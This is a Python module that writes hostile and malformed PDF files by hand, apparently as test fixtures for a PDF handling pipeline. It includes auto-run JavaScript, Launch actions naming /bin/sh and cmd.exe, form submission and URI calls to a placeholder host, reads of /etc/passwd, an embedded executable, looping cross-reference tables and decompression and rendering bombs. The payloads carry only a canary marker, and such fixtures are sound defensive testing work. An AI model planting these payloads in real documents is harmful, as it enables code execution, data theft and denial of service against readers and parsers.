"""PDFs that act, loop, lie or swell; written by hand, object by object."""

from __future__ import annotations

import hashlib
import random
import zlib
from collections.abc import Iterator

CANARY = b"CANARY-PRIVATE-DATA"
MEGABYTE = 1024 * 1024
DRAWING = b"1 0 0 rg 40 40 200 300 re f 0 0 1 rg 120 200 150 150 re f"

File = tuple[str, bytes]


def stream(body: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d %s>>stream\n%s\nendstream" % (len(body), more, body)


def page(number: int = 2, *, contents: int = 4, box: bytes = b"0 0 300 420", more: bytes = b"") -> bytes:
    return b"<</Type/Page/Parent %d 0 R/MediaBox[%s]/Contents %d 0 R %s>>" % (number, box, contents, more)


def written(objects: dict[int, bytes], *, trailer: bytes = b"", root: bytes = b"1 0 R") -> bytes:
    """Return a PDF of numbered objects with a sound table of where they stand."""
    out, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, size = len(out), max(objects, default=0) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        entry = b"%010d 00000 n \n" if number in places else b"%010d 65535 f \n"
        out += entry % places.get(number, 0)
    return out + b"trailer<</Size %d/Root %s %s>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, trailer, start)


def objects(
    *, catalogue: bytes = b"", page_more: bytes = b"", box: bytes = b"0 0 300 420"
) -> dict[int, bytes]:
    """Return the objects of a sound receipt of one page."""
    return {
        1: b"<</Type/Catalog/Pages 2 0 R %s>>" % catalogue,
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: page(box=box, more=page_more),
        4: stream(DRAWING),
    }


def sound(*, info: bytes = b"") -> bytes:
    """Return a receipt of one page, with something said of its author."""
    if not info:
        return written(objects())
    return written(objects() | {5: b"<</Author(%s)/Title(%s)>>" % (info, info)}, trailer=b"/Info 5 0 R")


def active(rng: random.Random) -> Iterator[File]:
    """PDFs that would do something in a reader that lets them: only what they show comes out."""
    script = b"(app.alert\\('%s'\\))" % CANARY
    actions = {
        "javascript": b"<</S/JavaScript/JS%s>>" % script,
        "launch": b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(%s)>>>>" % CANARY,
        "uri": b"<</S/URI/URI(http://example.invalid/%s)>>" % CANARY,
        "submit": b"<</S/SubmitForm/F(http://example.invalid/%s)>>" % CANARY,
        "goto-remote": b"<</S/GoToR/F(\\\\\\\\example.invalid\\\\%s)/D[0/Fit]>>" % CANARY,
        "import": b"<</S/ImportData/F(/etc/passwd)>>",
    }
    for name, action in actions.items():
        yield f"open-{name}.pdf", written(objects(catalogue=b"/OpenAction " + action))
        link = b"<</Type/Annot/Subtype/Link/Rect[0 0 300 420]/A %s>>" % action
        yield f"link-{name}.pdf", written(objects(page_more=b"/Annots[%s]" % link))
    yield (
        "names.pdf",
        written(objects(catalogue=b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS%s>>]>>>>" % script)),
    )
    attached = {5: b"<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>", 6: stream(b"MZ" + CANARY)}
    inside = objects(catalogue=b"/Names<</EmbeddedFiles<</Names[(a.exe)5 0 R]>>>>")
    yield "attached.pdf", written(inside | attached)
    form = b"/AcroForm<</Fields[5 0 R]/NeedAppearances true/XFA(%s)>>" % CANARY
    field = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(%s)/Rect[0 0 300 99]>>" % CANARY
    yield "form.pdf", written(objects(catalogue=form, page_more=b"/Annots[5 0 R]") | {5: field})
    for kind in (b"RichMedia", b"Movie", b"Screen", b"3D", b"FileAttachment", b"Sound"):
        annotation = b"/Annots[<</Type/Annot/Subtype/%s/Rect[0 0 99 99]/Contents(%s)>>]" % (kind, CANARY)
        yield f"{kind.decode()}.pdf", written(objects(page_more=annotation))
    yield "hidden-page-text.pdf", written(objects() | {4: stream(DRAWING + b" BT 3 Tr (%s) Tj ET" % CANARY)})
    yield "metadata.pdf", written(objects(catalogue=b"/Metadata 5 0 R") | {5: stream(CANARY)})
    image = b"/Resources<</XObject<</I 5 0 R>>>>"
    outside = stream(b"", b"/Type/XObject/Subtype/Image/Width 9/Height 9/F(/etc/passwd)/FFilter/DCTDecode")
    yield "outside.pdf", written(objects(page_more=image) | {4: stream(DRAWING + b" /I Do"), 5: outside})


def broken(rng: random.Random) -> Iterator[File]:
    """PDFs whose tables and trees lie."""
    well = sound()
    yield "no-table.pdf", well[: well.index(b"xref")]
    yield "no-trailer.pdf", well[: well.index(b"trailer")]
    at = well.index(b"xref\n0")
    yield "table-loop.pdf", well.replace(b"/Root", b"/Prev %d/Root" % at)
    yield "table-far.pdf", well.replace(b"startxref\n%d" % at, b"startxref\n99999999999999")
    yield "table-before.pdf", well.replace(b"startxref\n%d" % at, b"startxref\n-1")
    yield "table-wrong.pdf", well.replace(b" 00000 n", b" 00007 n")
    yield "size-huge.pdf", well.replace(b"/Size 5", b"/Size 2147483647")
    yield "no-root.pdf", written(objects(), root=b"9 0 R")
    yield "root-is-page.pdf", written(objects(), root=b"3 0 R")
    yield "kid-is-parent.pdf", written(objects() | {2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"})
    yield (
        "kids-loop.pdf",
        written(
            objects()
            | {
                2: b"<</Type/Pages/Kids[5 0 R]/Count 1>>",
                5: b"<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>",
            }
        ),
    )
    for count in (-1, 0, 2, 10**6, 2**31 - 1, 10**30):
        yield f"count-{count}.pdf", written(objects() | {2: b"<</Type/Pages/Kids[3 0 R]/Count %d>>" % count})
    yield "no-kids.pdf", written(objects() | {2: b"<</Type/Pages/Kids[]/Count 0>>"})
    yield "contents-loop.pdf", written(objects() | {3: page(contents=3)})
    yield "length-loop.pdf", written(objects() | {4: b"<</Length 4 0 R>>stream\n%s\nendstream" % DRAWING})
    for length in (0, -5, 10**9):
        body = b"<</Length %d>>stream\n%s\nendstream" % (length, DRAWING)
        yield f"length-{length}.pdf", written(objects() | {4: body})
    yield "filter-random.pdf", written(objects() | {4: stream(rng.randbytes(3_000), b"/Filter/FlateDecode")})
    filters = b"/Filter[%s]" % (b"/FlateDecode" * 500)
    yield "filters-500.pdf", written(objects() | {4: stream(zlib.compress(DRAWING), filters)})
    yield "arrays-deep.pdf", written(objects(catalogue=b"/X " + b"[" * 100_000))
    yield "dictionaries-deep.pdf", written(objects(catalogue=b"/X " + b"<</X " * 50_000))
    yield "operators-random.pdf", written(objects() | {4: stream(rng.randbytes(20_000))})
    yield "random-tail.pdf", well[:60] + rng.randbytes(9_000)
    yield "empty.pdf", written({})
    yield "only-head.pdf", b"%PDF-1.7\n%%EOF"


def bombs(rng: random.Random) -> Iterator[File]:
    """PDFs too long, too wide, too heavy, or shut."""
    for count in (5, 9, 3_000):
        kids = b" ".join([b"3 0 R"] * count)
        yield (
            f"pages-{count}.pdf",
            written(objects() | {2: b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count)}),
        )
    boxes = {
        "wide": b"0 0 14400 20", "tall": b"0 0 20 14400", "huge": b"0 0 14400 14400",
        "vast": b"0 0 1e30 1e30", "none": b"0 0 0 0", "negative": b"0 0 -300 -420",
        "speck": b"0 0 0.001 0.001", "nan": b"0 0 nan inf", "long": b"0 0 99999999999 99999999999",
    }  # fmt: skip
    for name, box in boxes.items():
        yield f"box-{name}.pdf", written(objects(box=box))
    yield "unit.pdf", written(objects(page_more=b"/UserUnit 1e9"))
    packed = zlib.compress(b"0 0 m 9 9 l S\n" * (MEGABYTE // 5), 9)
    yield "contents-3mb.pdf", written(objects() | {4: stream(packed, b"/Filter/FlateDecode")})
    twice = zlib.compress(zlib.compress(b"\0" * (600 * MEGABYTE // 10), 9), 9)
    yield "deflate-twice.pdf", written(objects() | {4: stream(twice, b"/Filter[/FlateDecode/FlateDecode]")})
    drawn = {4: stream(b"300 0 0 420 0 0 cm /I Do")}
    resources = b"/Resources<</XObject<</I 5 0 R>>>>"
    for side in (30_000, 60_000, 2**31 - 1):
        pixels = zlib.compress(b"\0" * (20 * MEGABYTE), 9)
        more = b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent 8" % (side, side)
        picture = stream(pixels, more + b"/ColorSpace/DeviceRGB/Filter/FlateDecode")
        yield f"image-{side}.pdf", written(objects(page_more=resources) | drawn | {5: picture})
    itself = stream(b"/I Do /I Do", b"/Type/XObject/Subtype/Form/BBox[0 0 300 420]%s" % resources)
    yield "form-in-itself.pdf", written(objects(page_more=resources) | drawn | {5: itself})
    yield "forms-doubling.pdf", doubling(26)
    tile = b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.1/YStep 0.1/Resources<<>>"
    painted = {4: stream(b"/Pattern cs /P scn 0 0 300 420 re f"), 5: stream(b"0 0 1 1 re f", tile)}
    yield "tiles.pdf", written(objects(page_more=b"/Resources<</Pattern<</P 5 0 R>>>>") | painted)
    for version in (2, 4):
        yield f"locked-{version}.pdf", locked(version)


def doubling(depth: int) -> bytes:
    """Return a page drawn 2^depth times by forms that each draw the next one twice."""
    forms = {}
    for level in range(depth):
        resources = b"/Resources<</XObject<</I %d 0 R>>>>" % (6 + level)
        more = b"/Type/XObject/Subtype/Form/BBox[0 0 300 420]"
        forms[5 + level] = stream(b"/I Do 1 0 0 1 1 1 cm /I Do", more + resources)
    forms[5 + depth] = stream(DRAWING, b"/Type/XObject/Subtype/Form/BBox[0 0 300 420]")
    return written(objects(page_more=b"/Resources<</XObject<</I 5 0 R>>>>") | {4: stream(b"/I Do")} | forms)


def locked(version: int) -> bytes:
    """Return a PDF that asks for a password nobody has."""
    shut = hashlib.sha256(b"%d" % version).hexdigest().encode()
    lock = b"<</Filter/Standard/V %d/R %d/Length 128/P -4/O<%s>/U<%s>" % (
        version,
        min(version + 1, 4),
        shut,
        shut,
    )
    crypt = (
        b"/CF<</StdCF<</CFM/AESV2/AuthEvent/DocOpen/Length 16>>>>/StmF/StdCF/StrF/StdCF"
        if version == 4
        else b""
    )
    return written(objects() | {5: lock + crypt + b">>"}, trailer=b"/Encrypt 5 0 R/ID[<00><00>]")
